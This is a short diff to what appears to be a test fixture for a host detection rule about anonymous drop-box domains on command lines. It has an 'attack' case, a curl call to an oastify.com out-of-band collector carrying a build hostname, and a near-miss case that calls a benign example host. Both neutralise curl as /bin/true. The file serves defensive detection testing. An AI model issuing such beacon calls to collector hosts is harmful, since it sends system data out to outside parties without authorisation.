@@ -1,10 +1,10 @@
 # rule: Anonymous drop box named on a command line
 # where: host
 attack() {
-    cp /bin/true curl
+    ln -s /bin/true curl
     ./curl -s 'https://x7f.oastify.com/?h=build-3'
 }
 near_miss() {
-    cp /bin/true curl
+    ln -s /bin/true curl
     ./curl -s 'https://hooks.example.org/?h=build-3'
 }
